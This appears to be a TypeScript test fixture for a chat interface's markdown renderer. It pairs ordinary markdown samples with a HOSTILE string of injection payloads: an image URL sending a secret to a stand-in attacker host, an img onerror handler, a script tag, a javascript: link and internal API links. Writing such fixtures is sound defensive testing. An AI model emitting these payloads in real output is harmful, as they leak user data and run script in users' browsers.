/** Answers that hold what a page must be able to show, and what it must not do. */

export const MARKDOWN = `A **bold** word, a [link](https://example.org/a) and \`code\`.

- [x] done
- [ ] open

| a | b |
| --- | --: |
| 1 | 2 |

\`\`\`python
def answer() -> int:
    return 42
\`\`\`

Mass and energy: $E = mc^2$, for $5 or $10.

\`\`\`mermaid
flowchart LR
  A[Dusk] --> B[Night]
\`\`\`
`;

export const HOSTILE = `![leak](https://evil.example/leak.png?secret=1)

<img src="https://evil.example/raw.png" onerror="window.broken = 1">
<script>window.broken = 1</script>
[run](javascript:window.broken=1) [act](/api/v1/conversations)

![own](/api/v1/files/fil_1)`;
